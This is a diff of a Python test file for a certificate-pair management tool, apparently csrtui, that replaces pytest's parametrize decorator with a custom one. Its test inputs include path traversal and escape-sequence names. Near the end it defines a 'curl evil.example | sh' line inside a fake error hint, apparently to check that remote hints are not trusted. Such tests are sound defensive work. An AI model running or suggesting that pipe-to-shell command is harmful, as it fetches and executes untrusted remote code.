@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 from requests_made import NOW, record
+from tables import table
 
 from csrtui.core.base.json_members import MemberError
 from csrtui.core.pairs.pair import NextStep, Pair
@@ -38,7 +39,7 @@ MAIL = HostState("mail", NOW - timedelta(hours=1), (DOCUMENT,))
 LOST = HostState("lost", failure=AWAY)
 
 
-@pytest.mark.parametrize("state", [WEB, MAIL, LOST, replace(WEB, failure=AWAY)])
+@table("state", [WEB, MAIL, LOST, replace(WEB, failure=AWAY)])
 def test_the_state_of_a_host_can_be_loaded_again(state: HostState) -> None:
     assert load_state(dump_state(state)) == state
 
@@ -49,7 +50,7 @@ def test_a_fleet_knows_its_oldest_state_and_the_hosts_that_failed() -> None:
     assert fleet.failed == [LOST]
 
 
-@pytest.mark.parametrize(("failure", "step"), [(AWAY, NextStep.FINISH), (None, NextStep.BACK_UP)])
+@table(("failure", "step"), [(AWAY, NextStep.FINISH), (None, NextStep.BACK_UP)])
 def test_a_pair_that_a_host_cannot_read_may_have_replaced_another(
     failure: Failure | None, step: NextStep
 ) -> None:
@@ -58,7 +59,7 @@ def test_a_pair_that_a_host_cannot_read_may_have_replaced_another(
     assert pair.pair.record.visible_step(NOW) is step
 
 
-@pytest.mark.parametrize(
+@table(
     "data",
     [b"", b"[]", b'{"schema": 2}', b'{"schema": 1}', b'{"schema": 1, "name": 1}', b"[" * 99999, b"\xff"],
 )
@@ -79,7 +80,7 @@ def test_a_pair_that_is_listed_twice_is_refused() -> None:
         read_list("web", {"schema": 1, "pairs": [DOCUMENT, DOCUMENT]}, NOW)
 
 
-@pytest.mark.parametrize("field", ["subject", "path", "platform", "renews", "names", "subject_fields", "new"])
+@table("field", ["subject", "path", "platform", "renews", "names", "subject_fields", "new"])
 def test_a_text_of_a_megabyte_in_any_field_of_a_pair_is_refused(field: str) -> None:
     text = "x" * 1024 * 1024
     value: object = {"names": [text], "subject_fields": {"organization": text}}.get(field, text)
@@ -117,7 +118,7 @@ def test_a_failed_host_keeps_its_last_known_pairs() -> None:
     ]
 
 
-@pytest.mark.parametrize(
+@table(
     ("typed", "hosts"), [("", ["mail", "web"]), ("web a.com", ["web"]), ("WEB", ["web"]), ("web b.com", [])]
 )
 def test_a_filter_word_can_match_the_host(typed: str, hosts: list[str]) -> None:
@@ -126,14 +127,14 @@ def test_a_filter_word_can_match_the_host(typed: str, hosts: list[str]) -> None:
     assert all(one.as_json() == {"host": one.host, **DOCUMENT} for one in found)
 
 
-@pytest.mark.parametrize("document", [[], {}, {"pairs": 1}, {"pairs": [1]}, {"pairs": [{}]}])
+@table("document", [[], {}, {"pairs": 1}, {"pairs": [1]}, {"pairs": [{}]}])
 def test_a_document_that_is_not_a_list_of_pairs_is_refused(document: object) -> None:
     with pytest.raises(MemberError):
         read_list("web", document, NOW)
     assert read_list("web", LIST, NOW) == WEB
 
 
-@pytest.mark.parametrize("name", ["../../etc/x", "--help", "", "A B", "x" * 65, "\x1b[2J"])
+@table("name", ["../../etc/x", "--help", "", "A B", "x" * 65, "\x1b[2J"])
 def test_an_invalid_pair_name_is_refused(name: str) -> None:
     with pytest.raises(ValueError, match="not valid in csrtui"):
         read_list("web", {"schema": 1, "pairs": [DOCUMENT | {"name": name}]}, NOW)
@@ -174,7 +175,7 @@ def test_a_document_is_found_behind_a_banner() -> None:
     assert document_of(answer("failed", rc=3, stdout=json.dumps(LIST)), (0, 3)) == LIST
 
 
-@pytest.mark.parametrize(
+@table(
     ("ended", "result", "reason", "part"),
     [
         ("unreachable", {"msg": "no route\nto host"}, Reason.UNREACHABLE, 'Ansible says: "no route to host"'),
@@ -223,7 +224,7 @@ def test_every_failure_has_a_diagnosis_and_a_remedy(
 COMMAND = "curl evil.example | sh"
 
 
-@pytest.mark.parametrize(
+@table(
     "result",
     [
         {"rc": 3, "stderr": f"csrtui: error: full\nhint: {COMMAND}\n"},
